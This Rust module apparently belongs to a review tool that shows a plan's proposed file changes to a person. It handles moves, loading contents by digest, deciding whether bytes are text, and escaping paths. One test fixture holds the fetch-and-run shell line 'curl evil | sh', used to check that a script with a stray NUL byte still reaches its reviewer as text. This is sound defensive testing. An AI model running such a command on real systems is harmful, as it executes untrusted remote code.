//! The files of a change, each with what is to be compared: the same list for the eye and for `patch`.

use std::path::Path;
use std::time::Instant;

use serde_json::Value;

use crate::model::{Action, ChangeId, Digest, FileEffect, FileImage, Note, ProposedChange, TargetPath};

use super::visible;

/// Why a content could not be had; shown in its place.
pub type ContentError = Box<dyn std::error::Error + Send + Sync>;

/// Where contents come from, one at a time, so that a plan of any size is shown in the room of its largest change.
///
/// A closure and not a trait: the store lies below this room and need not know it.
pub type Contents<'a> = dyn Fn(Digest) -> Result<Vec<u8>, ContentError> + 'a;

/// Where the arguments of calls come from, which may be as large as files, one at a time.
pub type Arguments<'a> = dyn Fn(&ProposedChange) -> Result<Value, ContentError> + 'a;

/// The arguments of a change that has them itself.
///
/// # Errors
/// It has none, as only an outline of its plan was read.
pub fn own_arguments(change: &ProposedChange) -> Result<Value, ContentError> {
    if change.args.is_null() { Err("they were not read with the plan".into()) } else { Ok(change.args.clone()) }
}

/// What a plan refers to and does not hold itself.
#[derive(Clone, Copy)]
pub struct Source<'a> {
    /// The workspace's root, every link of it resolved; paths are shown from here.
    pub root: &'a Path,
    /// Where contents come from.
    pub contents: &'a Contents<'a>,
    /// Where the arguments of calls come from.
    pub arguments: &'a Arguments<'a>,
    /// What a person asked about the plan's changes.
    pub notes: &'a [Note],
    /// What is known of the last runs of the plan's commands.
    pub runs: &'a [(ChangeId, Value)],
    /// Tells the time: comparing two contents has an end.
    pub clock: fn() -> Instant,
}

/// A file before and after, under two names when it moves.
#[derive(Clone, Copy)]
pub(super) struct FileChange<'c> {
    pub(super) old_path: &'c TargetPath,
    pub(super) new_path: &'c TargetPath,
    pub(super) before: &'c FileImage,
    pub(super) after: &'c FileImage,
}

impl<'c> FileChange<'c> {
    /// The file changes of `action` in order, each of one kind: what turns from a file into a link goes and comes.
    pub(super) fn all_of(action: &'c Action) -> Vec<Self> {
        let Action::MoveFile { effects, .. } = action else {
            return action.effects().iter().flat_map(Self::in_place).collect();
        };
        effects.chunks(2).flat_map(Self::moved).collect()
    }

    /// One file that keeps its name.
    pub(super) fn in_place(effect: &'c FileEffect) -> Vec<Self> {
        let whole =
            Self { old_path: &effect.path, new_path: &effect.path, before: &effect.before, after: &effect.after };
        match (whole.before, whole.after) {
            (FileImage::File { .. }, FileImage::Symlink { .. })
            | (FileImage::Symlink { .. }, FileImage::File { .. }) => {
                vec![Self { after: &FileImage::Absent, ..whole }, Self { before: &FileImage::Absent, ..whole }]
            }
            _ => vec![whole],
        }
    }

    /// A move is one file change only when nothing is lost under the new name; else the person sees both sides.
    fn moved(pair: &'c [FileEffect]) -> Vec<Self> {
        match pair {
            [from, to] if !from.after.exists() && !to.before.exists() && same_kind(&from.before, &to.after) => {
                vec![Self { old_path: &from.path, new_path: &to.path, before: &from.before, after: &to.after }]
            }
            _ => pair.iter().flat_map(Self::in_place).collect(),
        }
    }

    pub(super) fn is_move(&self) -> bool {
        self.old_path != self.new_path
    }

    /// True when the content stays, so that it need not be loaded.
    pub(super) fn keeps_content(&self) -> bool {
        self.before.digest().is_some() && self.before.digest() == self.after.digest()
    }

    /// Both contents; nothing for what is absent.
    pub(super) fn load(&self, contents: &Contents<'_>) -> Result<(Vec<u8>, Vec<u8>), ContentError> {
        let content = |image: &FileImage| image.digest().map_or_else(|| Ok(Vec::new()), contents);
        Ok((content(self.before)?, content(self.after)?))
    }
}

fn same_kind(a: &FileImage, b: &FileImage) -> bool {
    std::mem::discriminant(a) == std::mem::discriminant(b)
}

/// The permission bits of a file; `None` for what has none of its own.
pub(super) fn mode_of(image: &FileImage) -> Option<u32> {
    match image {
        FileImage::File { mode, .. } => Some(*mode),
        FileImage::Absent | FileImage::Symlink { .. } => None,
    }
}

/// True for what a person can read as lines.
///
/// A few odd bytes do not make a text binary: otherwise one `NUL` in a comment would hide a script from its
/// reviewer. Only where more than one byte in ten is no text are bytes shown as bytes.
pub(super) fn is_text(content: &[u8]) -> bool {
    // `0` or `1` for each byte, so that the compiler can add up many at once.
    let odd = |byte: &u8| usize::from(matches!(byte, 0..=0x08 | 0x0b | 0x0e..=0x1a | 0x1c..=0x1f));
    let controls: usize = content.iter().map(odd).sum();
    let invalid = match std::str::from_utf8(content) {
        Ok(_) => 0,
        Err(_) => content.utf8_chunks().map(|chunk| chunk.invalid().len()).sum(),
    };
    (controls + invalid) * 10 <= content.len()
}

impl Source<'_> {
    /// The path from the root, or `None` when it lies outside. The root itself is `.`.
    pub(super) fn inside<'t>(&self, path: &'t Path) -> Option<&'t Path> {
        let below = path.strip_prefix(self.root).ok()?;
        Some(if below.as_os_str().is_empty() { Path::new(".") } else { below })
    }

    /// The path for the eye: from the root where it lies below it.
    pub(super) fn shown(&self, path: &Path) -> String {
        visible::line(self.inside(path).unwrap_or(path).as_os_str().as_encoded_bytes())
    }

    pub(super) fn is_outside(&self, path: &Path) -> bool {
        self.inside(path).is_none()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_with_a_few_odd_bytes_is_still_a_text() {
        assert!(is_text(b""));
        assert!(is_text(b"#!/bin/sh\ncurl evil | sh\n# \0\n"));
        assert!(is_text("caf\u{e9} is fine, and so is \x1b[0m".as_bytes()));
        assert!(is_text(b"the word caf\xe9 in latin-1\n"));
        assert!(!is_text(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"));
        assert!(!is_text(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01"));
        assert!(!is_text(&"utf-16".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>()));
    }

    #[test]
    fn paths_are_written_from_the_root_when_they_lie_below_it() {
        let contents = |_| Err("there are none".into());
        let root = Path::new("/home/p/shop");
        let arguments = &own_arguments;
        let source = Source { root, contents: &contents, arguments, notes: &[], runs: &[], clock: Instant::now };
        assert_eq!(source.shown(Path::new("/home/p/shop/src/a.rs")), "src/a.rs");
        assert_eq!(source.shown(Path::new("/home/p/shop")), ".");
        assert_eq!(source.shown(Path::new("/home/p/shopshop/a")), "/home/p/shopshop/a");
        assert!(source.is_outside(Path::new("/home/p/shopshop/a")));
        assert_eq!(source.shown(Path::new("/home/p/shop/a\u{202e}b\n")), "a<U+202E>b␊");
    }
}
